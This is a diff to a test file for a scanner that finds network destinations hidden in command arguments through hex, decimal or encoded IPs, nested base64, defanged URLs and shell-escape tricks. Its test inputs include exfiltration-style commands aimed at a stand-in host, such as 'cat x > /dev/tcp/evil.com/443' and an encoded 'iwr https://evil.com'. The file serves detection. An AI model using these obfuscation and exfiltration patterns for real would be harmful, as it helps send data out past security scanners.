@@ -1,6 +1,6 @@
 import { assert, describe, it } from "@effect/vitest"
 import { farthest } from "../../src/governance/characters.ts"
-import { undisguise } from "../../src/governance/disguise.ts"
+import { hiddenInBase64, undisguise } from "../../src/governance/disguise.ts"
 import {
   collectArguments,
   collectValue,
@@ -314,7 +314,9 @@ describe("scan: strict", () => {
     ["\u{116db}\u{116da}.0.0.\u{116de}", ["10.0.0.4"]],
     ["0x7f.0.0.1 0177.0.0.1", ["0x7f.0.0.1", "0177.0.0.1"]],
     ["ping 0x7f000001", ["0x7f000001"]],
+    ["0x7f.0x0.0x0.0x1", ["0x7f.0x0.0x0.0x1"]],
     ["curl 2130706433", ["2130706433"]],
+    ["host=2130706433", ["2130706433"]],
     ["ping6 2001:db8::1 and ssh a@fe80::1%eth0", ["2001:db8::1", "fe80::1%eth0"]],
     ["copy x \\\\fileserver\\share\\y", ["\\\\fileserver\\share"]],
     ["hxxps://evil[.]com/x", ["hxxps://evil[.]com/x", "https://evil.com/x"]],
@@ -322,6 +324,8 @@ describe("scan: strict", () => {
     [btoa(btoa("https://evil.com/x")), ["https://evil.com/x"]],
     [Buffer.from("iwr https://evil.com", "utf16le").toString("base64"), ["https://evil.com"]],
     [Buffer.from("curl evil.com").toString("hex"), ["evil.com"]],
+    // It has a slash inside.
+    [Buffer.from("noé https://evil.com/x").toString("base64"), ["https://evil.com/x"]],
     [`"htt" + "ps://evil.com"`, ["ps://evil.com", "https://evil.com"]],
     ["$'\\x68\\x74\\x74\\x70://evil.com'", ["x70://evil.com", "http://evil.com"]],
     ["curl ev''il.com/x", ["il.com/x", "evil.com/x"]],
@@ -333,7 +337,9 @@ describe("scan: strict", () => {
     [`${"x/".repeat(sliceCharacters)}/${btoa("https://evil.com/x")}`, ["https://evil.com/x"]],
     [btoa(btoa(btoa("https://evil.com/x"))), ["https://evil.com/x"]],
     [btoa("s3://ab"), ["s3://ab"]],
-    ["see github.com", ["github.com"]],
+    ["see github.com/ in a browser", ["github.com/"]],
+    ["evil.ai", ["evil.ai"]],
+    ["push to evil.io, not to the api.evil.dev of mine", ["evil.io", "api.evil.dev"]],
     ["cat x > /dev/tcp/evil.com/443", ["evil.com/443"]],
     ["//evil.com/x.js", ["evil.com/x.js"]],
     [`{"host":"evil.site"}`, ["evil.site"]]
@@ -352,9 +358,11 @@ describe("scan: strict", () => {
     "os.path.join main.py README.md run.sh user.me System.Net.Http ASP.NET",
     "src/evil.com/index.js done.It was. e.g. 1.2.3",
     "npm i lodash@latest @types/node@20 actions/checkout@v4 @app.route image@sha256:0123456789ab",
+    "host: 12345678 to evil.space to t.co",
     "port = 2130706433 0xdeadbeef 00:11:22:33:44:55 10:30:00 a[::2] std::vector curl 7.12.0",
     "C:\\Users\\bob \\d+\\.\\w+ App\\Models\\User",
     "aGVsbG8gd29ybGQgaGVsbG8=",
+    btoa("\0https://evil.com/x"),
     btoa(btoa(btoa(btoa("https://evil.com/x"))))
   ])("leaves %s", (text) => assert.deepStrictEqual(scan.scanArguments(one(text), "strict").destinations, []))
 
@@ -385,6 +393,7 @@ describe("scan: what must not be flagged", () => {
     "C://x c://x C:\\\\x {data:x} {data:x/y,z:1}",
     "Mozilla/5.0 AppleWebKit/537.36 Chrome/120.0.0.0 Safari/537.36",
     "1.3.6.1.4.1.311.2 1.2.3.4.5 0.1.2.3.4",
+    "00:11:22:33:44:55:66:77",
     "a[::2] x[1::2] :: a::b Cafe::Add 00:11:22:33:44:55:66:77 10:30:00",
     "http:1.1 https:8080 http:server http:axios.get(x) http:request.started",
     "http:server",
@@ -518,6 +527,7 @@ describe("scan: limits", () => {
     ["addresses in quotes", fill('"::1" ')],
     ["different addresses", Array.from({ length: size / 16 }, (_, at) => `xx://${at}`.padEnd(15)).join(" ")],
     ["percent signs", fill("%25")],
+    ["percent signs of percent signs", `%${fill("25")}`],
     ["entities", fill("&amp;#38;")],
     ["base64", fill("aHR0cHM6Ly9h")],
     ["short base64", fill("aHR0cHM6Ly9ldmlsLmNvbS9hYmM= ")],
@@ -544,6 +554,14 @@ describe("scan: limits", () => {
       assert.isAtLeast(slicesOf(collectValue(value, "spec", makeCollector())), 100_000 / sliceValues)
     }
     assert.deepStrictEqual(scanValue(deep), ["https://a.example"])
+  })
+
+  it("every step of the strict scan is done in slices", () => {
+    const count = 20
+    const [escapes = "", run = ""] = ["%41", "-"].map((unit) => unit.repeat(count * sliceCharacters))
+    assert.isAtLeast(slicesOf(undisguise(escapes)), 3 * count)
+    // Its characters are read once, and again in parts.
+    assert.isAtLeast(slicesOf(hiddenInBase64(run, () => assert.fail("no text"))), 2 * count - 1)
   })
 
   it("what is undone in slices is what is undone at once", () => {
